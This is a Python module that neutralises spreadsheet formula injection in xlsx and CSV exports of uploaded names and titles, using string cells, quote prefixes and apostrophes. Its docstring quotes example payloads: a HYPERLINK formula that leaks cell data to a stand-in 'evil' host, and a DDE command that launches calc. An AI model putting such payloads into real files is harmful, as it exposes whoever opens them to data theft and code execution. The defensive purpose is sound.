"""Writing text into the spreadsheets organizers download (xlsx and CSV) as text, never as a formula.

Names, centers, groups, titles and topics come from uploaded files and forms.
Written as they are, `=HYPERLINK("http://evil/?"&A1,"点击")` in a roster becomes
a live formula in results.xlsx, and `+cmd|' /C calc'!A0`, `-1+1`, `@SUM(...)`
become formulas when a CSV is opened in Excel (CSV / formula injection).
openpyxl stores any string starting with "=" as a formula. So every writer of
an export goes through these two helpers:

- xlsx: every string is a string cell (`data_type = "s"`), and one that starts
  like a formula also gets Excel's quote prefix, so editing the cell in Excel
  keeps it text. The value read back is exactly the original text.
- CSV: a field that starts like a formula gets a leading apostrophe (OWASP's
  advice); that is the only change to the text.

openpyxl (with numpy and Pillow when they are installed) costs a server about
40 MB: it is loaded when an organizer asks for a workbook, not for the live hall.
"""

from __future__ import annotations

from collections.abc import Iterable

# What Excel, LibreOffice and Google Sheets read as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet would read `text` as a formula."""
    return text.startswith(FORMULA_STARTS)


def workbook():
    """A new, empty openpyxl workbook."""
    from openpyxl import Workbook

    return Workbook()


def bold(cells, size: float | None = None) -> None:
    """Set `cells` (a header row, a title cell) in bold."""
    from openpyxl.styles import Font

    font = Font(bold=True, size=size)
    for cell in cells:
        cell.font = font


def append_row(sheet, values: Iterable) -> None:
    """Append a row to an openpyxl worksheet: numbers as numbers, every string as text."""
    sheet.append([_text_cell(sheet, value) if isinstance(value, str) else value for value in values])


def _text_cell(sheet, text: str):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

    # Control characters other than tab/newline make openpyxl refuse the whole workbook.
    text = ILLEGAL_CHARACTERS_RE.sub("", text)
    cell = Cell(sheet)
    cell.value = text
    cell.data_type = "s"  # never "f", whatever the text starts with
    if starts_like_formula(text):
        cell.quotePrefix = True
    return cell


def csv_field(value) -> str:
    """One CSV field: the text, with an apostrophe in front when it starts like a formula."""
    text = "" if value is None else str(value)
    return f"'{text}" if starts_like_formula(text) else text


def csv_row(values: Iterable) -> list[str]:
    """A CSV row of `csv_field`s."""
    return [csv_field(value) for value in values]
